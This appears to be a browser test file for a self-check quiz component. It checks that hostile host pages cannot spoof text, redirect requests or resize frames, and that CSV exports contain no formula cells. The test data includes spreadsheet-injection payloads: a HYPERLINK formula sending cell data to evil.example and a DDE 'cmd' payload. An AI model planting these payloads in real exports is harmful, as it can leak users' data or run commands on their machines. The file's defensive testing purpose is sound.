import { expect, fixture, html } from '@open-wc/testing';
import fc from 'fast-check';
import '../../src/define/self-check-quiz.js';
import type { SelfCheckQuiz } from '../../src/components/self-check-quiz/self-check-quiz.js';
import { foundations } from '../../src/content/index.js';
import {
  createResultFile,
  parseCsv,
  parseResultCsv,
  sanitiseAnswers,
  toCsv,
  toJson,
} from '../../src/engine/index.js';
import { deepElements, isChromium, loadPage, removeFrames, report, settle } from './frame.js';

/**
 * Issue 14's attacks as real pages with real headers (test/hostile/pages/, served by
 * scripts/hostile-server.mjs), each adding to the summary line: spoofed texts, foreign
 * requests, foreign resizes, formula cells. Every figure must stay 0.
 */
afterEach(removeFrames);

/** The words the attacker tried to put on the site. */
const ATTACKER = /URGENT LINE|0906|EVIL TEXT|EVIL LINK|evil\.example/;

/** Text and link targets of a document, through every shadow root. */
function shown(doc: Document): string[] {
  return deepElements(doc).flatMap((el) => [
    ...[...el.childNodes].filter((n) => n.nodeType === 3).map((n) => n.textContent ?? ''),
    el.getAttribute('href') ?? '',
  ]);
}

async function until<T>(check: () => T | undefined | null | false, what: string): Promise<T> {
  const start = performance.now();
  for (;;) {
    const value = check();
    if (value) return value;
    if (performance.now() - start > 20000) throw new Error(`Timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
}

/** Requests of a window to anything but this origin (attempts a CSP blocked included). */
function foreign(win: Window, violations: readonly string[] = []): string[] {
  return [
    ...win.performance
      .getEntriesByType('resource')
      .map((e) => e.name)
      .filter((name) => new URL(name).origin !== location.origin),
    ...violations.filter((v) => /other\.invalid|evil\.example/.test(v)),
  ];
}

describe('hostile: a crafted link to the embed page', function () {
  this.timeout(60000);
  it('/hostile/embed-attacks.html: no spoofed text, no foreign request, no foreign resize', async () => {
    const { doc, win } = await loadPage('embed-attacks');
    const frames = ['contact', 'content', 'links', 'colour'].map(
      (id) => doc.getElementById(id) as HTMLIFrameElement,
    );
    for (const frame of frames) {
      const fdoc = await until(
        () =>
          frame.contentDocument?.querySelector('#embed > *:last-child')?.shadowRoot &&
          frame.contentDocument,
        `frame ${frame.id}`,
      );
      await settle(fdoc);
    }
    await new Promise((resolve) => setTimeout(resolve, 500));
    const spoofed = frames.flatMap((frame) =>
      shown(frame.contentDocument!).filter((text) => ATTACKER.test(text)),
    );
    const requests = frames.flatMap((frame) => foreign(frame.contentWindow!));
    // A colour that smuggles url() counts as a request even where a policy blocks it.
    const painted = frames.filter((frame) =>
      /url\(/.test(
        frame.contentWindow!.getComputedStyle(frame.contentDocument!.documentElement).cssText +
          frame.contentDocument!.documentElement.style.cssText,
      ),
    );
    const ad = doc.getElementById('ad') as HTMLIFrameElement;
    const resized = ad.getBoundingClientRect().height > 1000 ? 1 : 0;
    await report({
      pages: 1,
      'spoofed texts': spoofed.length,
      'foreign requests': requests.length + painted.length,
      'foreign resizes': resized,
      'CSP violations': win.__violations.length,
    });
    expect(spoofed).to.deep.equal([]);
    expect(requests).to.deep.equal([]);
    expect(painted.map((f) => f.id)).to.deep.equal([]);
    expect(resized).to.equal(0);
    // Our own frames still fit their content.
    expect(frames[0].getBoundingClientRect().height).to.be.greaterThan(300);
    expect(win.__violations).to.deep.equal([]);
  });
});

describe('hostile: host pages that try to redirect local content', function () {
  this.timeout(60000);
  it('/hostile/base-href.html: <base href> to another site loads nothing from it', async () => {
    const { doc, win } = await loadPage('base-href');
    await new Promise((resolve) => setTimeout(resolve, 300));
    const requests = foreign(win, win.__violations);
    await report({ pages: 1, 'foreign requests': requests.length });
    expect(requests).to.deep.equal([]);
    expect(win.__warnings.join('\n')).to.contain('is on another site (https://other.invalid)');
    expect(doc.querySelector('foundation-card')!.shadowRoot!.textContent).to.contain(
      'Evidence and information',
    );
  });

  it('/hostile/unicode-links.html: links with leading or trailing Unicode space never render', async () => {
    const { doc, win } = await loadPage('unicode-links');
    await until(() => win.__warnings.some((w) => w.includes('content-src')), 'the warning');
    await settle(doc);
    const spoofed = shown(doc).filter((text) => ATTACKER.test(text));
    await report({ pages: 1, 'spoofed texts': spoofed.length });
    expect(spoofed).to.deep.equal([]);
    expect(win.__violations).to.deep.equal([]);
  });
});

describe('hostile: exported CSV in a spreadsheet', () => {
  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
  const hostile = fc.oneof(
    fc
      .tuple(fc.constantFrom(...TRIGGERS, "'=", "''+"), fc.string({ maxLength: 30 }))
      .map(([a, b]) => a + b),
    fc.constantFrom('=HYPERLINK("https://evil.example/?"&J3&J4,"Open the form")', '@SUM(1+1)'),
    fc.string({ maxLength: 30 }),
  );
  const isFormula = (cell: string) => TRIGGERS.some((t) => cell.startsWith(t));
  /** JSON with the answers in item order, so two equal files compare equal. */
  const canonical = (file: { answers: object }) =>
    JSON.stringify({ ...file, answers: Object.entries(file.answers).sort() });

  it('generated hostile notes, organisation and team: no formula cell, and re-import gives them back', () => {
    let cells = 0;
    let formula = 0;
    let changed = 0;
    fc.assert(
      fc.property(
        fc.dictionary(
          fc.constantFrom(...foundations.map((f) => f.id)),
          fc.record({ notes: hostile }),
        ),
        hostile,
        hostile,
        (answers, organisation, team) => {
          const file = createResultFile(sanitiseAnswers(answers), {
            organisation,
            team,
            createdAt: '2026-03-01T09:00:00.000Z',
          });
          const csv = toCsv(file);
          const all = parseCsv(csv).flat();
          cells += all.length;
          formula += all.filter(isFormula).length;
          const back = parseResultCsv(csv);
          if (!back.ok || canonical(back.value) !== canonical(file)) changed += 1;
        },
      ),
      { numRuns: isChromium ? 1000 : 60 },
    );
    void report({ 'formula cells': formula, 'result files': 0 });
    expect(cells).to.be.greaterThan(0);
    expect(formula).to.equal(0);
    expect(changed).to.equal(0);
  });

  it("the quiz's own CSV download of an imported hostile file has no formula cell", async () => {
    const el = await fixture<SelfCheckQuiz>(html`<self-check-quiz no-storage></self-check-quiz>`);
    const file = createResultFile(
      {
        leadership: { stage: 'implement', notes: '=HYPERLINK("https://evil.example/"&J3,"x")' },
        'co-design': { notes: "+cmd|' /C calc'!A0" },
      },
      { organisation: '@Hospice', team: '-Ward 7' },
    );
    expect(el.importResult(toJson(file))).to.deep.equal({ ok: true });
    const formula = parseCsv(el.exportResult('csv')).flat().filter(isFormula);
    await report({ 'formula cells': formula.length });
    expect(formula).to.deep.equal([]);
  });
});
